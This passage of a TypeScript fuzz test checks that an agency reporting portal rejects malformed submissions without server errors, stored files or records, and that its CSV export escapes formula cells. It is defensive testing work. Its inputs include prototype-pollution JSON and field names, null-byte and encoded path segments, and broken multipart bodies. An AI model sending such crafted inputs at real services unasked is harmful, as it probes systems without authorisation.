    const required: Record<Exclude<Route, 'page'>, string[]> = {
      submit: ['key', 'submittedBy', 'summary', 'figure.events-held'],
      extension: ['key', 'until', 'reason', 'requestedBy'],
      report: ['key', 'reportedBy', 'summary'],
    };
    const route = (form: Form) => form.route as Exclude<Route, 'page'>;
    return {
      'mangled link': (rng, form) => {
        if (form.token !== reportToken && form.token !== inspectionToken) return undefined; // mangled already
        const token = mangledToken(rng, form.token);
        form.token = token.path;
        return `link ${token.kind}`;
      },
      'other method': (rng, form) => {
        form.method = rng.pick(['PUT', 'PATCH', 'DELETE']);
        return `method ${form.method}`;
      },
      'unsupported content type': (rng, form) => {
        form.contentType = rng.pick([
          'text/plain',
          'application/xml',
          'application/octet-stream',
          'image/png',
          'text/html; charset=utf-8',
        ]);
        return `content type ${form.contentType}`;
      },
      'malformed JSON': (rng, form) => {
        form.encoding = 'json';
        form.body = utf8(
          rng.pick(['{"key": ', '{key: 1}', '[', '{"a":1}}', '\u0000', '{"__proto__": {"x": 1}}']),
        );
        return 'malformed JSON';
      },
      'broken multipart': (rng, form) => {
        if (form.encoding !== 'multipart') return undefined;
        form.mangle = rng.pick([
          'truncate',
          'no-final',
          'boundary-mismatch',
          'no-boundary',
          'empty-boundary',
          'garbage',
        ] as const);
        return `multipart ${form.mangle}`;
      },
      'client hangs up mid-body': (rng, form) => {
        if (form.encoding !== 'multipart' || form.route === 'extension') return undefined;
        // Sent once the rest is built: part of the body, then the connection closes.
        attach(rng, form, acceptedFile(rng).bytes, true);
        form.abort = true;
        return 'client hangs up mid-body';
      },
      'too many parts': (rng, form) => {
        if (form.encoding !== 'multipart' || form.route === 'extension') return undefined;
        const count = rng.pick([101, 121, 200]);
        for (let i = 0; i < count; i++) form.fields.push({ name: utf8(`x${i}`), value: utf8('1') });
        return `${count} more fields`;
      },
      'gzip-compressed body': (_rng, form) => {
        form.gzip = true;
        return 'body gzip-compressed (not read as such)';
      },
      'broken chunked encoding': (_rng, form) => {
        form.badChunks = true;
        return 'chunked encoding broken';
      },
      'urlencoded body over 64 KB': (rng, form) => {
        if (form.encoding !== 'urlencoded') return undefined;
        form.fields.push({ name: utf8('pad'), value: utf8('x'.repeat(64 * 1024 + rng.int(1, 10_000))) });
        return 'urlencoded body over the limit';
      },
      'required field missing': (rng, form) => {
        const name = rng.pick(required[route(form)]);
        removeField(form, name);
        return `${name} missing`;
      },
      'required field blank': (rng, form) => {
        const name = rng.pick(required[route(form)]);
        setField(form, name, blank(rng));
        return `${name} blank`;
      },
      'text too long': (rng, form) => {
        const names = required[route(form)].filter((n) => textLimit[n]);
        const name = rng.pick(names);
        setField(form, name, tooLong(rng, textLimit[name]!));
        return `${name} too long`;
      },
      'form key not a key': (rng, form) => {
        setField(form, 'key', junkKey(rng));
        return 'key refused';
      },
      'required field twice': (rng, form) => {
        // Multipart: the first value counts (a bad one); URL-encoded: both, so neither (an array).
        if (form.encoding === 'json') return undefined;
        const name = rng.pick(required[route(form)]);
        const first =
          name === 'key' ? junkKey(rng) : name === 'until' ? utf8(rng.pick(BAD_DATES)) : blank(rng);
        const existing = form.fields.find((f) => f.name.equals(utf8(name)));
        const second = existing?.value ?? utf8('x');
        removeField(form, name);
        if (form.encoding === 'multipart') form.fields.push({ name: utf8(name), value: first });
        else form.fields.push({ name: utf8(name), value: second });
        form.fields.push({ name: utf8(name), value: second });
        return `${name} sent twice`;
      },
      'JSON value not a string': (rng, form) => {
        if (form.encoding !== 'json') return undefined;
        const name = rng.pick(required[route(form)]);
        setField(form, name, Buffer.alloc(0), rng.pick([123, ['a'], null, { x: 1 }, true, 1.5e300]));
        return `${name} not a string`;
      },
      'figure refused': (rng, form) => {
        if (form.route !== 'submit') return undefined;
        const def = rng.pick(figures);
        const bad =
          def.type === 'percent'
            ? ['120', '100,5', '101%', '-1', 'năm mươi', '1.234', '50%%']
            : [
                '12abc',
                '1.234',
                '-3',
                '12,5',
                '１２',
                '1e3',
                'NaN',
                '9'.repeat(31),
                '0x10',
                '1_000',
                '∞',
                '1,234',
              ];
        setField(form, `figure.${def.key}`, utf8(rng.pick(bad)));
        return `figure ${def.key} refused`;
      },
      'until not a date': (rng, form) => {
        if (form.route !== 'extension') return undefined;
        setField(form, 'until', utf8(rng.pick(BAD_DATES)));
        return 'until not a date';
      },
      'extension sent as multipart': (_rng, form) => {
        if (form.route !== 'extension') return undefined;
        form.encoding = 'multipart';
        return 'extension as multipart (not read)';
      },
      'recommendation that does not exist': (rng, form) => {
        if (form.route !== 'report') return undefined;
        form.number = rng.pick([
          '0',
          '3',
          '9999',
          'abc',
          '1.0',
          '01',
          '-1',
          '1e0',
          '%201',
          '%D9%A1',
          '1%00',
          '99999',
        ]);
        return `recommendation ${form.number}`;
      },
      'file refused': (rng, form) => {
        if (form.encoding !== 'multipart' || form.route === 'extension') return undefined;
        const file = refusedFile(rng);
        attach(rng, form, file.bytes, true);
        return `file: ${file.kind}`;
      },
      'too many files': (rng, form) => {
        if (form.encoding !== 'multipart' || form.route === 'extension') return undefined;
        const count = rng.pick([MAX_FILES + 1, MAX_FILES + 2, 21, 25]);
        for (let i = 0; i < count; i++) attach(rng, form, pdf(rng), true);
        return `${count} files`;
      },
      'field named like a prototype property': (rng, form) => {
        if (form.encoding !== 'multipart' || form.route === 'extension') return undefined;
        const at = rng.int(0, form.fields.length);
        form.fields.splice(at, 0, {
          name: utf8(rng.pick(['__proto__', 'constructor', 'toString'])),
          value: utf8('1'),
        });
        return 'prototype field name';
      },
    };
  }

  /** `a` and `b` merged at random, each keeping its own order. */
  function interleave<T>(rng: Random, a: T[], b: T[]): T[] {
    const out: T[] = [];
    let i = 0;
    let j = 0;
    while (i < a.length || j < b.length) {
      if (j >= b.length || (i < a.length && rng.chance(0.7))) out.push(a[i++]!);
      else out.push(b[j++]!);
    }
    return out;
  }

  function serialize(rng: Random, form: Form): RawRequest {
    const suffix =
      form.route === 'extension' ? '/gia-han' : form.route === 'report' ? `/kien-nghi/${form.number}` : '';
    const path = `/nhiem-vu/${form.token}${suffix}${form.query}`;
    const headers: [string, string][] = [];
    let body: Buffer;
    let type: string;
    if (form.body) {
      body = form.body;
      type = 'application/json';
    } else if (form.encoding === 'multipart') {
      const boundary = `----fuzz${rng.int(0, 1e9).toString(16)}${rng.pick(['', "'()+_,-./:=?", ' x'])}`;
      const parts: Part[] = form.fields.map((f) => ({
        name: f.name,
        value: f.value,
        ...(rng.chance(0.1) ? { type: 'text/plain; charset=utf-8' } : {}),
      }));
      for (const file of form.files) {
        parts.push({ name: file.field, value: file.bytes, filename: file.filename, type: file.type });
      }
      // Files among the fields at random places; fields keep their order (the first of a name counts).
      const ordered = interleave(rng, parts.slice(0, form.fields.length), parts.slice(form.fields.length));
      body = multipartBody(ordered, boundary, form.mangle !== 'no-final');
      type = `multipart/form-data; boundary="${boundary}"`;
      if (form.mangle === 'truncate') {
        const end = body.lastIndexOf(Buffer.from(`--${boundary}--`));
        body = body.subarray(0, rng.int(0, Math.max(0, end - 1)));
      } else if (form.mangle === 'boundary-mismatch') {
        type = `multipart/form-data; boundary="${boundary}x"`;
      } else if (form.mangle === 'no-boundary') {
        type = 'multipart/form-data';
      } else if (form.mangle === 'empty-boundary') {
        type = 'multipart/form-data; boundary=';
      } else if (form.mangle === 'garbage') {
        body = rng.bytes(rng.int(1, 20_000));
      }
    } else if (form.encoding === 'urlencoded') {
      body = urlencodedBody(form.fields.map((f) => [f.name, f.value]));
      type = 'application/x-www-form-urlencoded';
    } else {
      // JSON has one value per name: the first one given, as in multipart bodies.
      const object: Record<string, unknown> = {};
      for (const f of form.fields) {
        const name = f.name.toString('utf8');
        if (!Object.prototype.hasOwnProperty.call(object, name)) {
          Object.defineProperty(object, name, {
            value: f.json !== undefined ? f.json : f.value.toString('utf8'),
            enumerable: true,
          });
        }
      }
      body = utf8(JSON.stringify(object));
      type = 'application/json';
    }
    headers.push(['Content-Type', form.contentType ?? type], ...form.headers);
    if (form.gzip) {
      body = gzipSync(body);
      headers.push(['Content-Encoding', 'gzip']);
    }
    return {
      method: form.method,
      path,
      headers,
      body,
      badChunks: form.badChunks,
      ...(form.abort ? { abortAfter: rng.int(0, Math.max(0, body.length - 1)) } : {}),
    };
  }

  /** One fuzzed request: a page view with a mangled link, or a form with at least one defect. */
  function fuzzCase(rng: Random, index: number): FuzzCase {
    const route = rng.pick<Route>([
      'page',
      'page',
      'submit',
      'submit',
      'submit',
      'extension',
      'extension',
      'report',
      'report',
    ]);
    if (route === 'page') {
      const token = rng.chance(0.5) ? reportToken : inspectionToken;
      const valid = rng.chance(0.2);
      const mangled = valid ? { path: token, kind: 'valid link' } : mangledToken(rng, token);
      const query = valid ? junkQuery(rng) : rng.chance(0.3) ? junkQuery(rng) : '';
      return {
        index,
        label: `GET page (${mangled.kind})${query ? ` query ${JSON.stringify(query.slice(0, 120))}` : ''}`,
        request: {
          method: 'GET',
          path: `/nhiem-vu/${mangled.path}${query}`,
          headers: [],
          body: Buffer.alloc(0),
        },
      };
    }
    const encoding: Encoding =
      route === 'extension'
        ? rng.pick<Encoding>(['urlencoded', 'urlencoded', 'urlencoded', 'json'])
        : rng.pick<Encoding>(['multipart', 'multipart', 'multipart', 'multipart', 'urlencoded', 'json']);
    const form: Form = {
      route,
      encoding,
      fields: baseForm(route),
      files: [],
      token: route === 'report' ? (rng.chance(0.9) ? inspectionToken : reportToken) : reportToken,
      number: String(rng.int(1, 2)),
      query: '',
      method: 'POST',
      headers: [],
      defects: [],
      noise: [],
    };
    addNoise(rng, form);
    const catalogue = defects();
    // The file and multipart defects weigh more (where the portal writes), the cheap refusals less.
    const weight: Record<string, number> = {
      'file refused': 6,
      'broken multipart': 3,
      'too many files': 2,
      'mangled link': 2,
      'client hangs up mid-body': 1.5,
      'other method': 0.3,
      'malformed JSON': 0.3,
      'broken chunked encoding': 0.3,
      'gzip-compressed body': 0.3,
      'urlencoded body over 64 KB': 0.5,
    };
    const names = Object.keys(catalogue);
    const total = names.reduce((sum, n) => sum + (weight[n] ?? 1), 0);
    const pickDefect = () => {
      let x = rng.next() * total;
      for (const n of names) if ((x -= weight[n] ?? 1) < 0) return n;
      return names.at(-1)!;
    };
    const wanted = rng.chance(0.7) ? 1 : rng.int(2, 3);
    while (form.defects.length < wanted) {
      const applied = catalogue[pickDefect()]!(rng, form);
      if (applied) form.defects.push(applied);
    }
    const request = serialize(rng, form);
    return {
      index,
      label:
        `${form.method} ${route} [${form.encoding}] defects: ${form.defects.join('; ')}` +
        (form.noise.length ? ` | noise: ${form.noise.join('; ')}` : '') +
        ` | body ${request.body.length} B`,
      request,
    };
  }

  async function agencyStatus(): Promise<AgencyObligationsStatus> {
    return await obligations.query(statusQuery);
  }

  /** Updates the workflow accepted, from its history (a refused Update leaves no event). */
  async function acceptedUpdates(handle: WorkflowHandle): Promise<number> {
    const history = await handle.fetchHistory();
    return (history.events ?? []).filter((e) => e.workflowExecutionUpdateAcceptedEventAttributes).length;
  }

  it(
    'answers every invalid request without a 5xx, and records nothing',
    async () => {
      console.log(
        `portal fuzz: seed ${SEED} (replay with FUZZ_SEED=${SEED}), ${REQUESTS} requests` +
          `${SEED === DEFAULT_SEED ? ' (the default seed)' : ''}`,
      );
      const rng = new Random(SEED);
      const before = {
        inspectionUpdates: await acceptedUpdates(inspection),
        agencyUpdates: await acceptedUpdates(obligations),
        audits: await database.db.prisma.auditEvent.count(),
      };
      expect(before.agencyUpdates).toBe(0);
      expect(before.inspectionUpdates).toBe(1); // the conclusion, recorded above

      const failures: { case: string; status: number | null; error?: string; body?: string }[] = [];
      const stored: { case: string; files: string[]; submissions: number }[] = [];
      const bare: { case: string; status: number; missing: string[] }[] = [];
      const statuses = new Map<number | null, number>();
      let hangUps = 0;
      let lastHangUp = 0;
      let tempsInFlight = 0;
      let longestInFlight = 0;
      for (let i = 0; i < REQUESTS; i++) {
        const c = fuzzCase(rng, i);
        current = i;
        const started = Date.now();
        const res: RawResponse = await sendRaw(port, c.request);
        const hungUp = c.request.abortAfter !== undefined;
        if (hungUp) hangUps++;
        else statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        if (process.env.FUZZ_TRACE)
          console.log(`#${i} → ${res.status ?? res.error} (${Date.now() - started} ms): ${c.label}`);
        // Every answer carries the security headers, whichever layer gave it (a route, Fastify's 404,
        // its framework and client errors).
        if (!hungUp && res.status !== null) {
          const missing = SECURITY_HEADER_LINES.filter((line) => !line.test(res.head));
          if (missing.length > 0)
            bare.push({ case: `#${i} ${c.label}`, status: res.status, missing: missing.map(String) });
        }
        if (!hungUp && (res.status === null || res.status >= 500)) {
          failures.push({
            case: `#${i} ${c.label}`,
            status: res.status,
            error: res.error,
            body: res.body.toString('utf8').slice(0, 500),
          });
        }
        // After a hang-up the server goes on with the request on its own (reading what came, cleaning its
        // temp area) while the next requests are sent: a temp file seen then is in flight, not left behind;
        // the final check below, once the server has settled, is what counts for those.
        if (hungUp) lastHangUp = Date.now();
        const left = tree(files.root);
        const inFlight =
          Date.now() - lastHangUp < 10_000 && left.every((f) => /^tmp\/[0-9a-f-]+\.part$/.test(f));
        const submissions = await database.db.prisma.submission.count();
        if (left.length > 0 && inFlight && submissions === 0) {
          tempsInFlight++;
          longestInFlight = Math.max(longestInFlight, Date.now() - lastHangUp);
        } else if (left.length > 0 || submissions > 0) {
          stored.push({ case: `#${i} ${c.label}`, files: left, submissions });
        }
      }
      // Settled: every hung-up request has been answered (into the void) and cleaned up after.
      for (let waited = 0; tree(files.root).length > 0 && waited < 10_000; waited += 50) {
        await new Promise((r) => setTimeout(r, 50));
      }
      current = -1;
      console.log(
        `portal fuzz: statuses ${JSON.stringify(Object.fromEntries([...statuses].sort()))}; ` +
          `client hang-ups: ${hangUps} (temp files seen in flight: ${tempsInFlight}, at most ${longestInFlight} ms after); 5xx or no answer: ${failures.length}; server errors (5xx): ` +
          `${serverErrors.length}; stored: ${stored.length}`,
      );
      for (const e of serverErrors.slice(0, 5))
        console.log(`server error at request #${e.request}:\n${e.error}`);

      expect(failures).toEqual([]);
      expect(bare.slice(0, 5)).toEqual([]);
      expect(stored).toEqual([]);
      // Nothing recorded anywhere.
      expect(await database.db.prisma.submission.count()).toBe(0);
      expect(await database.db.prisma.attachment.count()).toBe(0);
      expect(
        await database.db.prisma.auditEvent.count({ where: { action: { contains: 'extension' } } }),
      ).toBe(0);
      expect(tree(files.root)).toEqual([]);
      expect(await acceptedUpdates(obligations)).toBe(before.agencyUpdates);
      expect(await acceptedUpdates(inspection)).toBe(before.inspectionUpdates);
      const status = await agencyStatus();
      expect(status.obligations[0]!.submissions).toEqual([]);
      expect(status.obligations[0]!.notes.filter((n) => /extension/.test(n))).toEqual([]);
      const inspected = await inspection.query(inspectionStatusQuery);
      expect(inspected.recommendations.map((r) => r.reports.length)).toEqual([0, 0]);
      // A long run (FUZZ_REQUESTS) gets the time it needs: a timed-out loop would go on sending into the
      // next test.
    },
    Math.max(120_000, REQUESTS * 400),
  );

  it('still takes each form when nothing is wrong with it (so the refusals above were the defects)', async () => {
    // The controls, through the same client and the same form builders with no defect: an extension
    // request, a recommendation's report with evidence, then the submission (after which the task is
    // closed to extension requests). Each is recorded, and shows in the checks the fuzz run passed.
    const post = (form: Form) => sendRaw(port, serialize(new Random(SEED), form));
    const valid = (route: Exclude<Route, 'page'>, encoding: Encoding, token: string): Form => ({
      route,
      encoding,
      fields: baseForm(route),
      files: [],
      token,
      number: '1',
      query: '',
      method: 'POST',
      headers: [],
      defects: [],
      noise: [],
    });
    const due = (await agencyStatus()).obligations[0]!.due;
    expect(due < '2027-12-30').toBe(true);
    const extension = await post(valid('extension', 'urlencoded', reportToken));
    expect(extension.status).toBe(303);
    expect(await acceptedUpdates(obligations)).toBe(1);
    expect(
      await database.db.prisma.auditEvent.count({ where: { action: 'obligation.request-extension' } }),
    ).toBe(1);

    const report = valid('report', 'multipart', inspectionToken);
    report.files.push({
      field: utf8('attachments'),
      filename: utf8('bien-ban.pdf'),
      type: 'application/pdf',
      bytes: minimalPdf('evidence'),
    });
    expect((await post(report)).status).toBe(303);
    expect(await acceptedUpdates(inspection)).toBe(2);
    expect((await inspection.query(inspectionStatusQuery)).recommendations[0]!.reports).toHaveLength(1);
    expect(tree(files.root)).toHaveLength(1);

    const submission = valid('submit', 'multipart', reportToken);
    // Its person and summary are formula cells: stored as given, exported as text.
    for (const field of submission.fields) {
      if (field.name.equals(fieldName('submittedBy'))) field.value = utf8(FORMULA_CELLS[3]!);
      if (field.name.equals(fieldName('summary'))) field.value = utf8(FORMULA_CELLS[0]!);
    }
    submission.files.push({
      field: utf8('attachments'),
      filename: utf8('bao-cao.pdf'),
      type: 'application/pdf',
      bytes: minimalPdf('control'),
    });
    expect((await post(submission)).status).toBe(303);
    expect(await database.db.prisma.submission.count()).toBe(1);
    expect(tree(files.root)).toHaveLength(2);
    expect((await agencyStatus()).obligations[0]!.submissions).toHaveLength(1);
    expect(await acceptedUpdates(obligations)).toBe(2);
    const stored = await database.db.prisma.submission.findFirstOrThrow();
    expect([stored.submittedBy, stored.summary]).toEqual([FORMULA_CELLS[3], FORMULA_CELLS[0]]);
    const csv = (await exportSubmissions(database.db, seeded.cycleId, { format: 'csv', lang: 'vi' }))!;
    const text = csv.body.toString('utf8');
    // No cell of the file starts with what a spreadsheet reads as a formula.
    const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d[\d.,]*$/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'${FORMULA_CELLS[0]}`, `'${FORMULA_CELLS[3]}`]));
  });
});
